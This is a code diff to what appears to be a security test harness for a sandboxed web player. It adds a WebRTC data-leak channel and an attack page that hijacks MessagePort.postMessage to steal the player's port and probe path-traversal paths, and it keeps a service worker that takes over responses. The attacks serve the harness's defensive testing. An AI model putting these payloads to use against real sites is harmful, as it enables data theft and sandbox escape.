@@ -33,7 +33,11 @@ export const CHANNELS = [
   'error-document',
   'poisoned-shell',
   'without-worker',
+  'webrtc',
 ] as const
+
+/** What the policy's `webrtc 'block'` will close where a browser obeys it; Chromium does not yet (docs/decisions/what-stays-open.md). */
+export const OPEN_CHANNELS: readonly string[] = ['webrtc']
 
 const out = (collector: string, channel: string) => `${collector}/out?channel=${channel}`
 
@@ -66,6 +70,7 @@ const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
   srcdoc: 'frame().srcdoc = doc(u)',
   'error-document': 'errorDocuments(u)',
   'poisoned-shell': 'globalThis.poisoned = poisonShell(u)', // needs the worker, which the next one ends
+  webrtc: 'callOut(u)',
   'without-worker':
     'Promise.all([settle(1500), globalThis.poisoned]).then(() => navigator.serviceWorker.ready).then((r) => r.unregister()).then(() => errorDocuments(u))',
 }
@@ -75,6 +80,12 @@ const add = (name, attributes) => { const e = Object.assign(document.createEleme
 let frames = 0
 const frame = (src) => add('iframe', { name: 'frame' + frames++, ...(src && { src }) })
 const doc = (u) => '<img src="' + u + '"><script>fetch("' + u + '").catch(()=>{})<\\/script>'
+/** Asks a server which address one has: what is looked for over WebRTC leaves the browser without any page's fetch. */
+async function callOut(u) {
+  const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL(u).port }] })
+  call.createDataChannel('out')
+  await call.setLocalDescription(await call.createOffer())
+}
 const settle = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
 const within = (promise, ms) => Promise.race([promise, settle(ms).then(() => { throw new Error('late') })])
 /** Documents of this origin that no page was meant to be: whichever lacks the policy is a way out. */
@@ -133,6 +144,26 @@ const thefts = {
   },
 }`
 
+/** Takes the player's own port to the app, when the player asks over it for what a synchronous request may need, and asks for more. */
+const PORT_SCRIPT = `
+let stolen
+const post = parent.MessagePort.prototype.postMessage
+parent.MessagePort.prototype.postMessage = function (message, transfer) {
+  if (message && message.vereda === 'texts') stolen = this
+  return post.call(this, message, transfer)
+}
+const ask = (path) => new Promise((resolve) => {
+  const { port1, port2 } = new MessageChannel()
+  port1.onmessage = ({ data }) => { if (data.kind !== 'heard') resolve(data.kind) }
+  post.call(stolen, { of: 'runtime', path, range: null }, [port2])
+})
+async function steal() {
+  const paths = ['../style.css', '../rest/currentuser', 'none/../../style.css', '..\\\\style.css', '../resource/other']
+  const got = [stolen ? 'port' : 'no port']
+  for (const path of paths) if (await ask(path) === 'file') got.push(path)
+  parent.postMessage({ vereda: 'finish', objectData: got }, '*')
+}`
+
 const page = (body: string) =>
   `<!doctype html><meta charset="utf-8"><title>Attack</title><body><script>${TOOLS}\n${body}</script></body>`
 
@@ -159,6 +190,8 @@ function await_(value) { return value }`).replace('<script>', '<script type="mod
     'navigate-self.html': page(`location = ${JSON.stringify(out(collector, 'own-frame'))}`),
     'navigate-player.html': page(`parent.location = ${JSON.stringify(out(collector, 'player-frame'))}`),
     'navigate-top.html': page(`try { top.location = ${JSON.stringify(out(collector, 'top'))} } catch {}`),
+    'port.html': page(`${PORT_SCRIPT}\n${'add("script", { src: "asks-at-once.js" }).onload = steal'}`),
+    'asks-at-once.js': "if (!window) new XMLHttpRequest().open('GET', 'x', false)",
     'evil-sw.js': "addEventListener('fetch', (event) => event.respondWith(new Response('taken over')))",
   }
 }
